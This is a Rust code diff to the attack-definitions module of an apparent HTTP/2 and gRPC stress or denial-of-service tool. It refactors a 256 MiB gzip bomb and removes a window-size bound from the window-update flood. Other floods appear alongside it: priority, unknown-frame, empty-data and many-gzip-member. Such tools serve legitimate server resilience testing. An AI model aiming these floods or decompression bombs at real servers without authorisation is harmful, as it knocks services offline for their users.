@@ -1,6 +1,11 @@
 //! The ways to attack.
 
+use std::io::Write;
+use std::sync::LazyLock;
+
 use clap::ValueEnum;
+use flate2::Compression;
+use flate2::write::GzEncoder;
 use thalweg::http2::frame::{Flags, Kind, Setting};
 
 use super::frames::Frames;
@@ -102,11 +107,7 @@ impl Class {
             },
             Self::Priority => flood(NOTHING, |it, _| it.frame(Kind::Priority, Flags::NONE, 1, &[0; 5])),
             Self::Unknown => flood(NOTHING, |it, _| it.frame(Kind::Unknown(99), Flags::NONE, 0, b"")),
-            Self::WindowUpdates => flood(call, |it, number| match number {
-                // It must not grow beyond 2³¹ - 1.
-                0..2_000_000_000 => it.window_update(1, 1),
-                _ => it.window_update(0, 1),
-            }),
+            Self::WindowUpdates => flood(call, |it, _| it.window_update(1, 1)),
             Self::EmptyData => flood(call, |it, _| it.data(1, false, b"")),
             Self::TinyData => flood(
                 |it| {
@@ -174,7 +175,7 @@ impl Class {
                 let stream = it.stream();
                 it.frame(Kind::Headers, WHOLE, stream, &[GET; FRAME_LEN]);
             }),
-            Self::GzipBomb => flood(NOTHING, |it, _| it.unary(&[("grpc-encoding", "gzip")], true, &bomb())),
+            Self::GzipBomb => flood(NOTHING, |it, _| it.unary(&[("grpc-encoding", "gzip")], true, &BOMB)),
             Self::GzipMembers => flood(NOTHING, |it, _| {
                 let members = EMPTY_MEMBER.repeat((4 << 20) / EMPTY_MEMBER.len() - 1);
                 it.unary(&[("grpc-encoding", "gzip")], true, &members);
@@ -247,15 +248,9 @@ fn call(frames: &mut Frames) {
 /// A gzip member of nothing.
 const EMPTY_MEMBER: [u8; 20] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0];
 
-/// A gzip member of many zeros: a stored head, then one code that repeats 258 bytes as often as there are bits.
-fn bomb() -> Vec<u8> {
-    use std::sync::OnceLock;
-    static BOMB: OnceLock<Vec<u8>> = OnceLock::new();
-    BOMB.get_or_init(|| {
-        use std::io::Write;
-        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
-        encoder.write_all(&vec![0; 256 << 20]).expect("a Vec takes all");
-        encoder.finish().expect("a Vec takes all")
-    })
-    .clone()
-}
+/// A gzip member of 256 MiB of zeros.
+static BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| {
+    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
+    encoder.write_all(&vec![0; 256 << 20]).expect("a Vec takes all");
+    encoder.finish().expect("a Vec takes all")
+});
